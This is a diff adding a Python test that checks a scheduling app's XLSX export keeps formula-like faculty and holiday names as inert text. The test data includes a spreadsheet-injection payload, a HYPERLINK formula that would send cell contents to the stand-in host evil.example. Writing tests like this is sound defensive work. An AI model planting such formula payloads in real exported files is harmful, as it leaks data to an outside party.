@@ -94,3 +94,16 @@ def test_the_api_exports_drafts_to_coordinators_and_refuses_anonymous(as_, api_c
     assert response.status_code == 200
     assert [r["faculty"] for r in csv.DictReader(io.StringIO(response.content.decode()))] == ["F001"]
     assert as_("coordinator").get("/api/v1/schedules/999999/xlsx").status_code == 404
+
+
+def test_names_that_look_like_formulas_stay_text_in_the_workbook(market, faculty, year):
+    faculty.display_name = '=HYPERLINK("http://evil.example/?"&A1,"Dr. Alice")'
+    faculty.save(update_fields=["display_name"])
+    week = market.year.weeks.get(index=3)
+    week.holiday_name = "=1+1"
+    week.save(update_fields=["holiday_name"])
+    book = load_workbook(io.BytesIO(schedule_xlsx(schedule=market)))
+    cells = [cell for name in book.sheetnames for row in book[name].iter_rows() for cell in row
+             if isinstance(cell.value, str) and cell.value.startswith("=")]
+    assert {c.value for c in cells} == {f"{faculty.display_name} (F001)", "=1+1"}
+    assert all(c.data_type == "s" for c in cells), "a name is text, never a formula the spreadsheet would run"
